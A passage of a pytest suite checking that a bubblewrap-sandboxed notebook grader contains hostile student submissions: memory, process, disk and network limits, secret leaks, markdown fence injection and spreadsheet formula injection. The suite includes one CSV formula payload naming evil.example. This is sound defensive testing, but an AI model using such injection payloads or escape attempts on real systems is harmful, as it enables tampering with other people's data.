    assert (hostile["out"] / "lesson-01" / "gradebook.csv").read_bytes() == hostile["gradebook"]
    assert "pwned" not in (hostile["out"] / "lesson-01" / "feedback" / "honest_a.md").read_text(encoding="utf-8")


def test_memory_is_limited(hostile) -> None:
    six = hostile["results"]["allocates_6_gib"]
    assert _statuses(six)[0] == "error" and "MemoryError" in _message(six, "1.1")
    gradual = _message(hostile["results"]["allocates_gradually"], "1.1")
    chunks = int(re.search(r"allocated (\d+) chunks", gradual).group(1))
    assert 0 < chunks * 64 * 2**20 <= MEMORY
    largest_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    # Over the whole test session: no graded process (default limit or this run's) grew past its limit.
    assert largest_kib * 1024 < Limits().memory_bytes + 512 * 2**20, "a graded process grew past the memory limit"


def test_shared_maps_and_memfds_do_not_escape_the_memory_limit(hostile) -> None:
    """Issue #32: 3 GiB in a shared anonymous map, or written into memfds, used to be held against a 2 GiB limit:
    the address space limit refuses the map, the seccomp filter memfd_create."""
    mapped = _message(hostile["results"]["maps_3_gib_shared"], "1.1")
    assert "mmap refused: Cannot allocate memory" in mapped, mapped
    memfds = _message(hostile["results"]["holds_3_gib_in_memfds"], "1.1")
    assert "held 0 MiB in memfds: Operation not permitted" in memfds, memfds


def test_only_unix_and_ip_sockets_can_be_made(hostile) -> None:
    message = _message(hostile["results"]["other_socket_families"], "1.1")
    assert "opened []" in message and message.count("Address family not supported") == 3, message


def test_a_sandbox_cannot_leave_its_share_of_the_cpus(hostile) -> None:
    message = _message(hostile["results"]["leaves_its_cpus"], "1.1")
    assert "affinity refused: Operation not permitted" in message, message


def test_processes_are_limited(hostile) -> None:
    message = _message(hostile["results"]["fork_bomb"], "1.1")
    forked = int(re.search(r"forked (\d+) processes", message).group(1))
    assert forked < Limits().processes < 50
    assert hostile["leftovers"] == []


def _held_blocks(result: NotebookResult) -> int:
    message = _message(result, "1.1")
    found = re.search(r"held (\d) blocks of 400 MiB at once", message)
    assert found, message
    return int(found.group(1))


@pytest.mark.skipif(not memory_cgroups_available(), reason="the grader cannot make memory cgroups here (an ordinary "
                                                      "user without a delegated cgroup)")
def test_a_notebooks_processes_share_one_memory_limit(hostile) -> None:
    """Issue #32: the limits were per process, so four children under the 1 GiB limit held 1.6 GiB. In a memory
    cgroup of 1 GiB plus the tmpfs sizes (1.28 GiB) for the whole sandbox, runner included, at most two blocks
    are held at once."""
    assert _held_blocks(hostile["results"]["forks_to_hold_memory"]) <= 2
    parent = own_memory_cgroup(Path("/proc/self/cgroup").read_text())
    assert not list(parent.glob("vae-course-grading-*")), "a notebook's cgroup was left behind"


@pytest.mark.skipif(not memory_cgroups_available(), reason="the grader cannot make memory cgroups here")
def test_without_the_cgroup_the_forked_children_hold_their_memory_at_once(tmp_path: Path) -> None:
    """The control of the test above: the same notebook with no cgroup made holds all four blocks."""
    _write(tmp_path / "subs" / "forks.ipynb", _edited(_notebook(EXERCISES_DIR), _1_1=_FORKS_TO_HOLD_MEMORY))
    (result,) = grade_all(tmp_path / "subs", workers=1, progress=False,
                          options=GradingOptions(time_limit_s=60, limits=Limits(memory_bytes=MEMORY),
                                                 memory_cgroup=False))
    assert _held_blocks(result) == 4


def test_there_is_no_network(hostile) -> None:
    message = _message(hostile["results"]["network"], "1.1")
    assert _statuses(hostile["results"]["network"])[0] == "error"
    assert re.search(r"raised (OSError|ConnectionRefusedError|TimeoutError)", message), message
    assert not hostile["connected"], "the sandbox reached a port on the grader's loopback"


def test_the_scratch_folder_and_files_are_capped(hostile) -> None:
    message = _message(hostile["results"]["fills_disk"], "1.1")
    written = int(re.search(r"wrote (\d+) MiB", message).group(1))
    assert written <= Limits().file_bytes // 2**20
    assert "File too large" in message or "No space left" in message


# --- robustness and safe output ----------------------------------------------------------------------------------

def test_no_secret_reaches_the_feedback(hostile) -> None:
    feedback = _feedback(hostile, "leaks_secrets")
    assert "FileNotFoundError | FileNotFoundError" in feedback
    assert SECRET not in feedback and KEY_TEXT not in feedback and str(hostile["places"]["key"]) not in feedback


def _headings_outside_fences(markdown: str) -> list[str]:
    """Markdown headings that a CommonMark renderer shows as headings (not inside a fenced code block)."""
    headings, fence = [], ""
    for line in markdown.splitlines():
        run = re.match(r"^(`{3,})", line)
        if fence:
            if run and len(run.group(1)) >= len(fence) and not line[len(run.group(1)):].strip():
                fence = ""
        elif run:
            fence = run.group(1)
        elif line.startswith("#"):
            headings.append(line)
    return headings


def test_a_message_cannot_break_out_of_its_fence(hostile) -> None:
    headings = _headings_outside_fences(_feedback(hostile, "fence_injection"))
    assert [h for h in headings if "✅" in h] == []
    assert len([h for h in headings if h.startswith("### Exercise")]) == 3


def test_a_print_flood_is_capped_and_grading_goes_on(hostile) -> None:
    assert _statuses(hostile["results"]["print_flood"]) == ["pass"] * 3
    assert len(_feedback(hostile, "print_flood")) < NOTEBOOK_SIZE_LIMIT


def test_a_huge_message_is_capped(hostile) -> None:
    feedback = _feedback(hostile, "huge_message")
    assert len(feedback.encode()) < NOTEBOOK_SIZE_LIMIT
    assert "more characters" in feedback


def test_names_that_collide_get_their_own_feedback(hostile) -> None:
    spaced = sorted(hostile["out"].glob("*/feedback/student_with_spaces*.md"))
    assert len(spaced) == 2
    owners = {path.read_text(encoding="utf-8").splitlines()[0] for path in spaced}
    assert owners == {"# Feedback for student with spaces", r"# Feedback for student\_with\_spaces"}


def test_hidden_folders_are_graded_and_reported(hostile) -> None:
    hidden = hostile["results"][".hidden"]
    assert _statuses(hidden) == ["pass"] * 3
    rows = {row["student"]: row for book in sorted(hostile["out"].glob("*/gradebook.csv"))
            for row in csv.DictReader(book.open(encoding="utf-8"))}
    assert "hidden" in rows[".hidden"]["review"]


def test_csv_cells_cannot_be_formulas(hostile) -> None:
    rows = [row for book in sorted(hostile["out"].glob("*/gradebook.csv"))
            for row in csv.reader(book.open(encoding="utf-8"))]
    assert "'=HYPERLINK(\"evil.example\",\"click\")" in [row[0] for row in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_hostile_run_stays_quick(hostile) -> None:
    """Every attack ends by itself, by a limit or with its sandbox: none holds the run to its time limit."""
    assert max(r.seconds for r in hostile["results"].values()) < 60


def test_the_courses_own_implementation_is_not_a_pass(hostile) -> None:
    """Exercise 4.1 through utils.vae.gaussian_kl_terms: imported by name (the scan sees it), reached without
    naming it (the runner sees the student's code call it), or the student's own code (a pass)."""
    results = hostile["results"]
    for student in ("kl_imports_reference", "kl_hides_reference", "kl_partial_reference"):
        assert _statuses(results[student]) == ["fail", "pass"], results[student]
        assert "the course's own implementation" in _message(results[student], "4.1")
    assert "utils.elbo_terms.gaussian_kl_terms" in _message(results["kl_imports_reference"], "4.1")
    assert "gaussian_kl_terms" in _message(results["kl_hides_reference"], "4.1")
    assert _statuses(results["kl_own_code"]) == ["pass", "pass"]


def test_without_bwrap_the_grader_refuses_and_says_how_to_get_it(tmp_path: Path, monkeypatch, capsys) -> None:
    _write(tmp_path / "subs" / "zoe.ipynb", _notebook(SOLUTIONS_DIR))
    monkeypatch.setattr("tools.grading.sandbox.shutil.which", lambda name: None)
    assert main([str(tmp_path / "subs"), "--out", str(tmp_path / "grades")]) == 2
    assert "apt-get install bubblewrap" in capsys.readouterr().err
    assert not (tmp_path / "grades").exists()


def test_no_sandbox_warns_once_and_grades(tmp_path: Path, capsys) -> None:
    _write(tmp_path / "subs" / "zoe.ipynb", _notebook(SOLUTIONS_DIR))
    assert main([str(tmp_path / "subs"), "--out", str(tmp_path / "grades"), "--no-sandbox"]) == 0
    captured = capsys.readouterr()
    assert captured.err.count("--no-sandbox") == 1
    rows = list(csv.DictReader((tmp_path / "grades" / "lesson-01" / "gradebook.csv").open()))
    assert [(row["student"], row["score"]) for row in rows] == [("zoe", "3")]


if sys.platform != "linux":  # bubblewrap is Linux's
    pytestmark = pytest.mark.skip("the sandbox needs Linux")
